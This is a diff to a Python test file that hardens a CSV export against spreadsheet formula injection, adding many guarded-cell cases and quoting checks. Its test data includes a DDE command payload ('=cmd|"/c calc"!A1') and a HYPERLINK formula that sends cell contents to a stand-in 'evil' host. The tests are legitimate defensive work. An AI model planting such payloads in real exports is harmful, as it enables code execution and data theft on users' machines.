@@ -139,12 +139,25 @@ def test_who_may_export(log_in: LogIn) -> None:
 @pytest.mark.parametrize(
     ("cell", "guarded"),
     [
-        ("=1+1", "'=1+1"), ("+49", "'+49"), ("-1", "'-1"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
-        ("\n=1", "'\n=1"), ("  =1", "'  =1"), ("\uff1d1", "'\uff1d1"), ("a=1", "a=1"), ("", ""), (-1, -1), (1.5, 1.5),
+        ("=1+1", "'=1+1"), ("+49", "'+49"), ("-1", "'-1"), ("@x", "'@x"), ("\t1", "'\\t1"), ("\r1", "'\\r1"),
+        ("\n=1", "'\\n=1"), ("  =1", "'  =1"), ("\u3000=1", "'\u3000=1"), ("\ufeff=1", "'\\ufeff=1"),
+        ("\u200b+1", "'\\u200b+1"), ("\uff1d1", "'\uff1d1"), ("\ufe66x", "'\ufe66x"), ("\u22121", "'\u22121"),
+        ("a;=HYPERLINK(0)", "a;'=HYPERLINK(0)"), ("a,@x", "a,'@x"), ("a\t=1", "a\\t'=1"), ("a; \t-1", "a; \\t'-1"),
+        ("a|=1", "a|'=1"), ("a\r\n=1", "a\\r\\n=1"), ('a";=1', 'a";\'=1'), ("a=1", "a=1"), ("a-b; c", "a-b; c"),
+        ("", ""), (-1, -1), (1.5, 1.5), ("\x1b[2J\u202e", "\\x1b[2J\\u202e"), ("\ud800", "\\ud800"),
     ],
 )  # fmt: skip
-def test_no_cell_is_a_formula(cell: Any, guarded: Any) -> None:
+def test_no_cell_is_a_formula_or_invisible(cell: Any, guarded: Any) -> None:
     assert guard_cell(cell) == guarded
+
+
+def test_every_cell_is_quoted() -> None:
+    trips.make_compensation_failing()
+    head, line = write_csv(Saga.objects.all(), with_payloads=True)
+
+    cells = next(csv.reader([line]))
+    assert head == ",".join(f'"{name}"' for name in COLUMNS) + "\r\n"
+    assert line == ",".join('"' + cell.replace('"', '""') + '"' for cell in cells) + "\r\n"
 
 
 def test_hostile_keys_stay_one_cell(log_in: LogIn) -> None:
@@ -155,13 +168,13 @@ def test_hostile_keys_stay_one_cell(log_in: LogIn) -> None:
     [row] = read_rows(log_in("admin").get(url_of("csv")))
 
     assert row["definition"] == '\'=cmd|"/c calc"!A1'
-    assert row["keys"] == f"order={hostile}"
+    assert row["keys"] == 'order==HYPERLINK("http://evil/"&A1,"x")\\r\\n"quoted", \u2603'
 
 
 def test_empty_list_gives_a_head_alone(log_in: LogIn) -> None:
     client = log_in("viewer")
 
-    assert read_text(client.get(url_of("csv"))) == ",".join(COLUMNS) + "\r\n"
+    assert next(csv.reader([read_text(client.get(url_of("csv")))])) == list(COLUMNS)
     assert read_text(client.get(url_of("ndjson"))) == ""
 
 
@@ -178,7 +191,7 @@ def test_pages_are_read_as_they_are_wanted(log_in: LogIn, monkeypatch: pytest.Mo
     with CaptureQueriesContext(connection) as others:
         found += list(lines)
 
-    assert [line.split(",")[0] for line in found] == expected
+    assert [line.split(",")[0].strip('"') for line in found] == expected
     assert len(first) == 4
     assert len(others) == 8
     assert all("LIMIT 2" in query["sql"] for query in first.captured_queries[:1])
